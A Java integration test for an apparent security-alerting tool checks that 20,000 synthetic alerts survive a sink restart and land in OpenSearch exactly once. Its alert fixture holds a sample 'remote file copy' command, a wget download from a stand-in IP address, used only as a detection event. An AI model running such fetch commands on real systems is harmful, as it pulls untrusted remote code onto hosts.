package dev.vigil.it;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.alert.Alert;
import dev.vigil.alert.Priority;
import dev.vigil.common.Metrics;
import dev.vigil.sink.delivery.DeliveringSink;
import dev.vigil.sink.delivery.DeliveryOptions;
import dev.vigil.sink.opensearch.OpenSearchConfig;
import dev.vigil.sink.opensearch.OpenSearchDestination;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The delivery layer in front of the bulk destination, against a real OpenSearch ({@link OpenSearchServer}):
 * 20,000 alerts go through {@link DeliveringSink} (memory queue, disk spool, batches of 500) into
 * {@link OpenSearchDestination}; the sink is closed in the middle of a burst and a new one (with a new destination
 * that remembers nothing) replays the spool. Every alert is stored exactly once, because the envelope id is the
 * document id. Prints the delivery rate (the bulk number of docs/BENCHMARKS.md); asserts no speed.
 */
class SpooledOpenSearchIT {

  private static final int N = 10_000;
  private static OpenSearchServer os;

  @BeforeAll
  static void start() throws Exception {
    os = OpenSearchServer.start();
  }

  @AfterAll
  static void stop() throws Exception {
    if (os != null) {
      os.close();
    }
  }

  private static Alert alert(int i) {
    Instant t = Instant.parse("2026-11-29T10:00:00Z").plusMillis(i);
    Map<String, Object> f = new LinkedHashMap<>();
    f.put("evt.time", t.getEpochSecond() * 1_000_000_000L + t.getNano());
    f.put("evt.type", "execve");
    f.put("container.id", "0123456789ab");
    f.put("container.name", "web-" + (i % 20));
    f.put("container.image.repository", "nginx");
    f.put("container.image.tag", "1.27");
    f.put("proc.name", "wget");
    f.put("proc.cmdline", "wget -q http://203.0.113.7/x" + i);
    f.put("proc.pid", 4000 + i);
    return new Alert(t, "Remote file copy tool launched in container", Priority.NOTICE,
        "Remote file copy tool launched in container (command=wget -q http://203.0.113.7/x" + i + ")", "syscall",
        List.of("container", "T1105"), "it-host", f);
  }

  private static void await(String what, Duration timeout, java.util.function.BooleanSupplier c)
      throws InterruptedException {
    long end = System.nanoTime() + timeout.toNanos();
    while (!c.getAsBoolean()) {
      if (System.nanoTime() > end) {
        throw new AssertionError("timed out waiting for " + what);
      }
      Thread.sleep(20);
    }
  }

  @Test
  void twentyThousandAlerts_withARestartMidBurst_areStoredExactlyOnce() throws Exception {
    Path spool = Files.createTempDirectory("vigil-it-os-spool");
    OpenSearchConfig cfg = OpenSearchConfig.bind(new com.fasterxml.jackson.databind.ObjectMapper().readTree(
        "{\"url\":\"" + os.url() + "\",\"index\":\"vigil-it-spooled\",\"max_batch\":500}"));
    Metrics m1 = Metrics.inMemory();
    DeliveringSink first = new DeliveringSink(new OpenSearchDestination(cfg, m1), DeliveryOptions.defaults(), spool,
        m1, Clock.systemUTC());
    first.start();
    // warm-up: the template is installed before the first bulk
    first.accept(alert(-1));
    await("warm-up alert", Duration.ofSeconds(60), () -> first.state().delivered() == 1);

    long t0 = System.nanoTime();
    for (int i = 0; i < N; i++) {
      first.accept(alert(i));
    }
    await("first burst delivered", Duration.ofSeconds(120), () -> first.state().delivered() == N + 1);
    double rate = N / ((System.nanoTime() - t0) / 1e9);

    for (int i = N; i < 2 * N; i++) {
      first.accept(alert(i));
    }
    first.close(Duration.ZERO); // stop in the middle: what was not acknowledged stays in the spool
    long left = first.state().spoolRecords();

    Metrics m2 = Metrics.inMemory();
    DeliveringSink second = new DeliveringSink(new OpenSearchDestination(cfg, m2), DeliveryOptions.defaults(), spool,
        m2, Clock.systemUTC());
    second.start();
    try {
      await("spool drained", Duration.ofSeconds(120), () -> second.state().spoolRecords() == 0);
      os.ok("POST", "/vigil-it-spooled-*/_refresh", null);
      long count = os.get("/vigil-it-spooled-*/_count").path("count").asLong();
      System.out.printf("spooled OpenSearch IT: %.0f alerts/s through the delivery layer (batches of 500) into "
              + "OpenSearch %s; %d alerts were left in the spool at the stop and replayed; %d duplicates answered "
              + "409%n", rate, OpenSearchServer.VERSION, left,
          m2.count("vigil.sink.duplicates", "sink", "opensearch"));
      assertThat(left).as("the stop came mid-burst").isPositive();
      assertThat(count).isEqualTo(2L * N + 1);
      assertThat(m1.count("vigil.sink.dropped", "sink", "opensearch")
          + m2.count("vigil.sink.dropped", "sink", "opensearch")).isZero();
    } finally {
      second.close(Duration.ofSeconds(5));
    }
  }
}
